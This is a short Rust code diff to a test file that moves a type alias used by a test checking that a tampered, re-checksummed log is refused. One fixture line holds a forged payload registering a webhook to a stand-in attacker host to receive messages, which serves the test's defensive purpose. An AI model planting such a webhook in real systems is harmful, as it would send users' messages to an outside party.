@@ -12,6 +12,9 @@ use crate::harness::{Stage, stage};
 const A: &str = "00000000000A";
 const B: &str = "00000000000B";
 
+/// A change of a line's payload.
+type Change<'a> = &'a dyn Fn(usize, &mut Value);
+
 /// A log with other payloads, line by line, whose checksums are right again: whoever can write the file can do that.
 fn changed(log: &[u8], change: impl Fn(usize, &mut Value)) -> Vec<u8> {
     let mut chain = Chain::default();
@@ -59,7 +62,6 @@ fn is_refused(stage: &Stage, run: &str, what: &str) -> String {
 fn a_log_in_which_anything_was_changed_is_refused_although_its_checksums_are_right() {
     let (stage, run, log) = fleet();
     let forged = r#"{"status":"success","webhooks":[{"url":"https://attacker.example/in","events":["message"],"is_active":1}]}"#;
-    type Change<'a> = &'a dyn Fn(usize, &mut Value);
     let cases: [(&str, Change<'_>); 9] = [
         ("who it is encrypted to", &|line, payload| {
             if line == 0 {
